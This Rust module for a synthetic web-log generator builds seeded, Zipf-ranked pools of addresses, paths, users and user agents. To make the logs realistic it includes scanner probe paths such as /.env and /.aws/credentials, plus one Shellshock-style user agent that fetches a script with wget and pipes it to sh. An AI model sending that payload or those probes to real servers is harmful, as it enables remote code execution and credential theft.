//! What the generator draws from: seeded pools of client addresses, request
//! paths and users, fixed lists of user agents, vhosts and referers, and the
//! Zipf sampler that ranks them.

use std::net::{Ipv4Addr, Ipv6Addr};

use rand::Rng;
use rand::seq::SliceRandom;
use rand_distr::StandardNormal;

use super::escape::is_clean;

/// Ranks `0..n`, rank 0 the most frequent, with `P(k) ∝ (k+1)^-exponent`;
/// sampled in O(1) from a Walker alias table.
pub(crate) struct Zipf {
    exponent: f64,
    norm: f64,
    /// Per slot: keep the slot's own rank if the low 32 random bits fall
    /// below the threshold, else take the alias.
    table: Vec<(u32, u32)>,
}

impl Zipf {
    pub(crate) fn new(n: usize, exponent: f64) -> Self {
        let n = n.max(1);
        let raw: Vec<f64> = (1..=n).map(|k| (k as f64).powf(-exponent)).collect();
        let norm: f64 = raw.iter().sum();
        // Vose's construction: pair each under-full slot with an over-full one.
        let mut scaled: Vec<f64> = raw.iter().map(|w| w / norm * n as f64).collect();
        let mut table: Vec<(u32, u32)> = (0..n as u32).map(|i| (u32::MAX, i)).collect();
        let (mut small, mut large): (Vec<usize>, Vec<usize>) = (0..n).partition(|&i| scaled[i] < 1.0);
        while let (Some(s), Some(&l)) = (small.pop(), large.last()) {
            table[s] = ((scaled[s] * 4_294_967_296.0) as u32, l as u32);
            scaled[l] -= 1.0 - scaled[s];
            if scaled[l] < 1.0 {
                large.pop();
                small.push(l);
            }
        }
        Self { exponent, norm, table }
    }

    /// Share of draws that land on rank `i`.
    fn weight(&self, i: usize) -> f64 {
        ((i + 1) as f64).powf(-self.exponent) / self.norm
    }

    pub(crate) fn sample(&self, rng: &mut impl Rng) -> usize {
        let r = rng.next_u64();
        let slot = (((r >> 32) * self.table.len() as u64) >> 32) as usize;
        let (threshold, alias) = self.table[slot];
        if (r as u32) < threshold { slot } else { alias as usize }
    }
}

/// Hands out categories rank by rank so that each category's share of the
/// *traffic* (the ranks' Zipf weight), not of the pool, tracks its target.
struct Quota<const N: usize> {
    target: [f64; N],
    got: [f64; N],
    total: f64,
}

impl<const N: usize> Quota<N> {
    fn new(target: [f64; N]) -> Self {
        Self { target, got: [0.0; N], total: 0.0 }
    }

    /// Records `weight` of traffic for `category`.
    fn charge(&mut self, category: usize, weight: f64) {
        self.total += weight;
        self.got[category] += weight;
    }

    /// The category furthest behind its target, charged with `weight`.
    fn pick(&mut self, weight: f64) -> usize {
        let total = self.total + weight;
        let deficit = |i: usize| self.target[i] * total - self.got[i];
        let best = (1..N).fold(0, |best, i| if deficit(i) > deficit(best) { i } else { best });
        self.charge(best, weight);
        best
    }
}

/// `median · e^(sigma·N(0,1))`.
pub(crate) fn log_normal(rng: &mut impl Rng, median: f64, sigma: f64) -> f64 {
    let z: f64 = rng.sample(StandardNormal);
    median * (sigma * z).exp()
}

/// How a path is served; drives method, status, size and latency.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum PathKind {
    Page,
    Api,
    Search,
    /// Immutable file: same size every time, served in microseconds.
    Asset,
    /// What vulnerability scanners probe; almost always 404.
    Probe,
}

pub(crate) struct PathEntry {
    /// Raw request-URI bytes, as the client sent them.
    pub(crate) uri: Box<[u8]>,
    /// Whether `uri` needs no escaping in any log format.
    pub(crate) clean: bool,
    pub(crate) kind: PathKind,
    /// Typical (assets: exact) 200 response body size.
    pub(crate) size: u64,
    /// Median `$request_time`, milliseconds.
    pub(crate) latency_ms: f64,
}

const WORDS: &[&str] = &[
    "red", "wool", "jacket", "garden", "chair", "lamp", "coffee", "grinder", "travel", "mug", "linen", "shirt", "oak",
    "desk", "river", "stone", "summer", "sale", "kids", "shoes", "vintage", "camera", "steel", "bottle", "yoga", "mat",
    "winter", "boots", "smart", "watch", "organic", "tea", "leather", "wallet", "running", "socks", "cast", "iron",
    "pan", "blue",
];
const NON_ASCII: &[&str] = &["Café", "Straße", "Zürich", "東京", "naïve", "Ελλάδα", "Kraków", "São_Paulo"];
const PROBES: &[&str] = &[
    "/wp-login.php",
    "/.env",
    "/.git/config",
    "/phpmyadmin/index.php",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/cgi-bin/luci/;stok=/locale",
    "/actuator/health",
    "/admin/config.php",
    "/xmlrpc.php",
    "/.aws/credentials",
];
/// The most requested paths of any site; `{h}` becomes a content hash.
const TOP: &[(&str, PathKind)] = &[
    ("/", PathKind::Page),
    ("/static/js/app.{h}.js", PathKind::Asset),
    ("/api/v1/health", PathKind::Api),
    ("/static/css/main.{h}.css", PathKind::Asset),
    ("/favicon.ico", PathKind::Asset),
    ("/api/v1/session", PathKind::Api),
    ("/login", PathKind::Page),
    ("/robots.txt", PathKind::Asset),
    ("/static/js/vendor.{h}.js", PathKind::Asset),
    ("/sitemap.xml", PathKind::Page),
    ("/apple-touch-icon.png", PathKind::Asset),
    ("/cart", PathKind::Page),
];

fn word(rng: &mut impl Rng) -> &'static str {
    WORDS[rng.gen_range(0..WORDS.len())]
}

fn slug(rng: &mut impl Rng) -> String {
    let n = rng.gen_range(2..=4);
    (0..n).map(|_| word(rng)).collect::<Vec<_>>().join("-")
}

fn hash6(rng: &mut impl Rng) -> String {
    format!("{:06x}", rng.gen_range(0..1u32 << 24))
}

/// `%XX`-encodes every byte outside the URI-unreserved set.
fn percent_encode(text: &str) -> String {
    text.bytes()
        .map(|b| match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'.' | b'_' | b'~' => char::from(b).to_string(),
            _ => format!("%{b:02X}"),
        })
        .collect()
}

/// A path without a query string.
fn plain_path(rng: &mut impl Rng) -> (String, PathKind) {
    use PathKind::*;
    let id = rng.gen_range(1..5_000_000u32);
    match rng.gen_range(0..100) {
        0..=24 => (format!("/products/{}", slug(rng)), Page),
        25..=31 => (format!("/blog/{}/{:02}/{}", rng.gen_range(2019..2027), rng.gen_range(1..13), slug(rng)), Page),
        32..=37 => (format!("/docs/{}/{}", word(rng), slug(rng)), Page),
        38..=47 => (format!("/api/v1/users/{id}"), Api),
        48..=53 => (format!("/api/v1/orders/{id}/items"), Api),
        54..=57 => {
            let uuid = format!(
                "{:08x}-{:04x}-4{:03x}-a{:03x}-{:012x}",
                rng.next_u32(),
                rng.gen_range(0..0x10000),
                rng.gen_range(0..0x1000),
                rng.gen_range(0..0x1000),
                rng.next_u64() >> 16
            );
            (format!("/api/v2/accounts/{uuid}/invoices"), Api)
        }
        58..=65 => (format!("/static/js/{}.{}.js", word(rng), hash6(rng)), Asset),
        66..=69 => (format!("/static/css/{}.{}.css", word(rng), hash6(rng)), Asset),
        70..=86 => (format!("/images/{}.{}", slug(rng), ["jpg", "png", "webp"][rng.gen_range(0..3)]), Asset),
        87..=88 => (format!("/fonts/{}-{}.woff2", word(rng), [400, 700][rng.gen_range(0..2)]), Asset),
        89..=94 => (format!("/category/{}", word(rng)), Page),
        95..=96 => (PROBES[rng.gen_range(0..PROBES.len())].to_owned(), Probe),
        // Raw UTF-8 that nginx writes as \xNN, and its percent-encoded form.
        97 => (format!("/wiki/{}", NON_ASCII[rng.gen_range(0..NON_ASCII.len())]), Page),
        98 => (format!("/wiki/{}", percent_encode(NON_ASCII[rng.gen_range(0..NON_ASCII.len())])), Page),
        _ => (
            format!(
                "/files/{}",
                percent_encode(&format!("Quarterly Report {} ({}).pdf", rng.gen_range(2019..2027), word(rng)))
            ),
            Asset,
        ),
    }
}

/// A path with a query string.
fn query_path(rng: &mut impl Rng) -> (String, PathKind) {
    use PathKind::*;
    let page = rng.gen_range(1..40);
    match rng.gen_range(0..100) {
        0..=29 => (format!("/search?q={}+{}&page={page}", word(rng), word(rng)), Search),
        30..=44 => (
            format!(
                "/category/{}?page={page}&sort={}",
                word(rng),
                ["price_asc", "price_desc", "newest", "rating"][rng.gen_range(0..4)]
            ),
            Page,
        ),
        45..=59 => (format!("/api/v1/items?limit=50&offset={}", page * 50), Api),
        60..=64 => (format!("/api/v1/users/{}?fields=name,email,created_at", rng.gen_range(1..5_000_000u32)), Api),
        65..=72 => (format!("/static/js/{}.js?v={}", word(rng), rng.gen_range(1..500)), Asset),
        73..=77 => (format!("/login?next=%2Faccount%2F{}", word(rng)), Page),
        78..=90 => (
            format!(
                "/?utm_source={}&utm_medium={}&utm_campaign={}",
                ["newsletter", "google", "facebook", "partner"][rng.gen_range(0..4)],
                ["email", "cpc", "social"][rng.gen_range(0..3)],
                slug(rng)
            ),
            Page,
        ),
        91..=94 => (format!("/redirect?url=https%3A%2F%2F{}.example%2F{}", word(rng), word(rng)), Page),
        95..=96 => (format!("/search?q={}", percent_encode(NON_ASCII[rng.gen_range(0..NON_ASCII.len())])), Search),
        97 => (format!("/search?q={}", NON_ASCII[rng.gen_range(0..NON_ASCII.len())]), Search),
        // curl and scripts send quotes unencoded; nginx logs them as \x22.
        98 => (format!("/search?q=\"{}\"", word(rng)), Search),
        _ => (
            format!(
                "/search?q={}&page={page}&lang={}",
                percent_encode(&format!("{} {}", word(rng), word(rng))),
                ["en", "de", "fr"][rng.gen_range(0..3)]
            ),
            Search,
        ),
    }
}

fn path_entry(rng: &mut impl Rng, uri: String, kind: PathKind) -> PathEntry {
    let (median_size, size_sigma, latency_ms) = match kind {
        PathKind::Page => (18_000.0, 0.7, 45.0),
        PathKind::Api => (1_400.0, 1.1, 25.0),
        PathKind::Search => (24_000.0, 0.5, 180.0),
        PathKind::Asset => (40_000.0, 1.3, 0.4),
        PathKind::Probe => (150.0, 0.0, 0.3),
    };
    PathEntry {
        clean: is_clean(uri.as_bytes()),
        uri: uri.into_bytes().into_boxed_slice(),
        kind,
        size: log_normal(rng, median_size, size_sigma).max(43.0) as u64,
        latency_ms: log_normal(rng, latency_ms, 0.4),
    }
}

/// `n` request paths in popularity order; their traffic-weighted share with a
/// query string is `query_share`.
fn paths(rng: &mut impl Rng, rank: &Zipf, n: usize, query_share: f64) -> Vec<PathEntry> {
    let mut quota = Quota::new([query_share, 1.0 - query_share]);
    (0..n)
        .map(|i| {
            let (uri, kind) = match TOP.get(i) {
                Some(&(template, kind)) => {
                    quota.charge(1, rank.weight(i));
                    (template.replace("{h}", &hash6(rng)), kind)
                }
                None if quota.pick(rank.weight(i)) == 0 => query_path(rng),
                None => plain_path(rng),
            };
            path_entry(rng, uri, kind)
        })
        .collect()
}

/// Public /8s seen in real traffic (cloud, ISPs, RIR regions).
const V4_FIRST_OCTETS: &[u8] = &[
    3, 13, 18, 23, 31, 34, 35, 37, 45, 46, 51, 52, 54, 62, 66, 72, 77, 78, 79, 81, 82, 85, 88, 89, 91, 93, 94, 95, 98,
    103, 104, 109, 138, 141, 151, 157, 162, 172, 176, 178, 185, 188, 193, 195, 203, 212, 213, 217,
];
/// Real-looking global IPv6 prefixes (hosting, cloud, ISPs): first two groups.
const V6_PREFIXES: &[[u16; 2]] = &[
    [0x2a01, 0x04f8],
    [0x2a03, 0x2880],
    [0x2607, 0xf8b0],
    [0x2600, 0x1f18],
    [0x2001, 0x41d0],
    [0x2a02, 0xc207],
    [0x2400, 0x6180],
    [0x2604, 0xa880],
    [0x2a00, 0x23c5],
    [0x2003, 0x00e7],
    [0x2601, 0x0646],
    [0x2409, 0x8a28],
    [0x2402, 0x0800],
    [0x2a02, 0x0810],
    [0x2806, 0x0010],
    [0x2c0f, 0xf7a8],
];

fn ipv4(rng: &mut impl Rng) -> Ipv4Addr {
    let first = V4_FIRST_OCTETS[rng.gen_range(0..V4_FIRST_OCTETS.len())];
    let second = match first {
        172 => rng.gen_range(64..=255), // keep clear of 172.16.0.0/12
        _ => rng.r#gen(),
    };
    Ipv4Addr::new(first, second, rng.r#gen(), rng.gen_range(1..255))
}

fn ipv6(rng: &mut impl Rng) -> Ipv6Addr {
    let [a, b] = V6_PREFIXES[rng.gen_range(0..V6_PREFIXES.len())];
    let site = [rng.gen_range(0..0x1000u16), rng.r#gen()];
    let iid: [u16; 4] = match rng.gen_range(0..20) {
        // Servers: small, mostly-zero interface ids (`…::1`, `…::2:15`).
        0..=4 => [0, 0, rng.gen_range(0..3), rng.gen_range(1..0x100)],
        // EUI-64 from a MAC address.
        5..=7 => [rng.r#gen(), rng.r#gen::<u16>() | 0x00ff, 0xfe00 | rng.gen_range(0..0x100), rng.r#gen()],
        // RFC 8981 temporary addresses.
        _ => rng.r#gen(),
    };
    Ipv6Addr::new(a, b, site[0], site[1], iid[0], iid[1], iid[2], iid[3])
}

/// `n` client addresses in popularity order: ~85% IPv4, ~13% IPv6 and ~2%
/// IPv4-mapped IPv6 by traffic, in RFC 5952 text.
fn addresses(rng: &mut impl Rng, rank: &Zipf, n: usize) -> Vec<Box<str>> {
    let mut quota = Quota::new([0.85, 0.13, 0.02]);
    (0..n)
        .map(|i| match quota.pick(rank.weight(i)) {
            0 => ipv4(rng).to_string(),
            1 => ipv6(rng).to_string(),
            _ => format!("::ffff:{}", ipv4(rng)),
        })
        .map(String::into_boxed_str)
        .collect()
}

const FIRST: &[&str] = &[
    "alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy", "mallory", "niaj", "olivia",
    "peggy", "rupert", "sybil", "trent", "victor", "walter", "yuki",
];
const LAST: &[&str] =
    &["smith", "garcia", "mueller", "tanaka", "kowalski", "nguyen", "rossi", "silva", "okafor", "larsen"];
const SERVICES: &[&str] = &["svc-backup", "deploy", "monitoring", "ci-runner", "grafana", "api-client-7"];

/// Authenticated users (`$remote_user`): logins, emails and service accounts.
fn users(rng: &mut impl Rng, n: usize) -> Vec<Box<str>> {
    let mut users: Vec<Box<str>> = (0..n)
        .map(|_| {
            let (f, l) = (FIRST[rng.gen_range(0..FIRST.len())], LAST[rng.gen_range(0..LAST.len())]);
            match rng.gen_range(0..10) {
                0..=3 => f.to_owned(),
                4..=6 => format!("{}.{l}", &f[..1]),
                7..=8 => format!("{f}.{l}@corp.example"),
                _ => SERVICES[rng.gen_range(0..SERVICES.len())].to_owned(),
            }
            .into_boxed_str()
        })
        .collect();
    users.shuffle(rng);
    users
}

/// User agents by popularity; `""` is a request without the header.
pub(crate) const USER_AGENTS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0",
    "kube-probe/1.31",
    "curl/8.5.0",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Prometheus/2.54.1",
    "python-requests/2.32.3",
    "Mozilla/5.0 (iPad; CPU OS 17_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.7 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.6723.107 Mobile Safari/537.36",
    "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0",
    "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)",
    "Go-http-client/1.1",
    "",
    "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36 OPR/115.0.0.0",
    "okhttp/4.12.0",
    "Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)",
    "Wget/1.21.4",
    "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Twitterbot/1.0",
    "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
    "Mozilla/5.0 (Linux; Android 13; Pixel 7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.6778.39 Mobile Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_6_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/131.0.6778.73 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 12; SAMSUNG SM-A525F) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/26.0 Chrome/122.0.0.0 Mobile Safari/537.36",
    "Apache-HttpClient/4.5.14 (Java/17.0.12)",
    "axios/1.7.7",
    "Mozilla/5.0 (compatible; DotBot/1.2; +https://opensiteexplorer.org/dotbot; help@moz.com)",
    "Mozilla/5.0 (Windows NT 6.1; Win64; x64; Trident/7.0; rv:11.0) like Gecko",
    "ELB-HealthChecker/2.0",
    "Mozilla/5.0 (compatible; MJ12bot/v1.4.8; http://mj12bot.com/)",
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Dalvik/2.1.0 (Linux; U; Android 11; M2010J19SG Build/RKQ1.201004.002)",
    "Mozilla/5.0 zgrab/0.x",
    "Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)",
    "PostmanRuntime/7.42.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 [FBAN/FBIOS;FBAV/489.0.0.33.107]",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Linux; U; Android 4.4.2; zh-cn; 华为 G750-T01 Build/HuaweiG750-T01) AppleWebKit/534.30 (KHTML, like Gecko) Version/4.0 Mobile Safari/534.30",
    "() { :; }; /bin/bash -c \"wget -qO- http://198.51.100.23/x.sh | sh\"",
    "Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/109.0.0.0 Safari/537.36",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
];

/// Tenant vhosts (`$host`) by traffic.
pub(crate) const HOSTS: &[&str] = &[
    "www.acme-shop.example",
    "api.acme-shop.example",
    "app.globex.example",
    "cdn.acme-shop.example",
    "www.hooli.example",
    "api.hooli.example",
    "shop.umbrella.example",
    "portal.vandelay.example",
    "status.initech.example",
    "docs.wayne-ent.example",
    "blog.wonka.example",
    "api.cyberdyne.example",
    "www.soylent.example",
    "store.tyrell.example",
    "admin.acme-shop.example",
    "m.globex.example",
];

pub(crate) const SEARCH_REFERERS: &[&str] = &[
    "https://www.google.com/",
    "https://www.google.com/",
    "https://www.bing.com/",
    "https://duckduckgo.com/",
    "https://www.google.de/",
    "https://search.yahoo.com/",
    "https://yandex.ru/",
    "https://www.ecosia.org/",
];
pub(crate) const OTHER_REFERERS: &[&str] = &[
    "https://t.co/",
    "https://news.ycombinator.com/",
    "https://www.reddit.com/",
    "https://l.facebook.com/",
    "android-app://com.google.android.gm/",
    "https://www.linkedin.com/",
    "https://github.com/",
];

/// Everything a generator draws from, built once from the seed.
pub(crate) struct Pools {
    pub(crate) addresses: Vec<Box<str>>,
    pub(crate) address_rank: Zipf,
    pub(crate) paths: Vec<PathEntry>,
    pub(crate) path_rank: Zipf,
    pub(crate) users: Vec<Box<str>>,
    pub(crate) user_rank: Zipf,
    pub(crate) agent_rank: Zipf,
    pub(crate) host_rank: Zipf,
}

impl Pools {
    pub(crate) fn new(rng: &mut impl Rng, address_count: usize, path_count: usize) -> Self {
        let address_rank = Zipf::new(address_count, 1.1);
        let path_rank = Zipf::new(path_count, 1.0);
        Self {
            addresses: addresses(rng, &address_rank, address_count),
            paths: paths(rng, &path_rank, path_count, 0.30),
            users: users(rng, 300),
            user_rank: Zipf::new(300, 1.0),
            agent_rank: Zipf::new(USER_AGENTS.len(), 1.0),
            host_rank: Zipf::new(HOSTS.len(), 1.2),
            address_rank,
            path_rank,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::SeedableRng;
    use rand_chacha::ChaCha8Rng;

    #[test]
    fn zipf_is_normalised_and_skewed() {
        let z = Zipf::new(1000, 1.1);
        let total: f64 = (0..1000).map(|i| z.weight(i)).sum();
        assert!((total - 1.0).abs() < 1e-9);
        assert!(z.weight(0) > 2.0 * z.weight(1) && z.weight(1) > z.weight(2));
        let mut rng = ChaCha8Rng::seed_from_u64(1);
        let mut counts = vec![0u32; 1000];
        (0..400_000).for_each(|_| counts[z.sample(&mut rng)] += 1);
        for rank in [0, 1, 9] {
            let seen = f64::from(counts[rank]) / 400_000.0;
            assert!((seen / z.weight(rank) - 1.0).abs() < 0.05, "rank {rank}: {seen} vs {}", z.weight(rank));
        }
    }

    #[test]
    fn quota_tracks_traffic_share() {
        let z = Zipf::new(10_000, 1.0);
        let mut q = Quota::new([0.3, 0.7]);
        let share: f64 = (0..10_000).filter(|&i| q.pick(z.weight(i)) == 0).map(|i| z.weight(i)).sum();
        assert!((share - 0.3).abs() < 0.01, "{share}");
    }

    #[test]
    fn addresses_are_rfc5952() {
        let mut rng = ChaCha8Rng::seed_from_u64(7);
        let v6 = Ipv6Addr::new(0x2a01, 0x4f8, 0, 0, 0, 0, 0, 1);
        assert_eq!(v6.to_string(), "2a01:4f8::1");
        for _ in 0..1000 {
            let text = ipv6(&mut rng).to_string();
            assert_eq!(text, text.to_lowercase());
            assert!(text.parse::<Ipv6Addr>().is_ok() && text.starts_with('2'), "{text}");
        }
    }
}
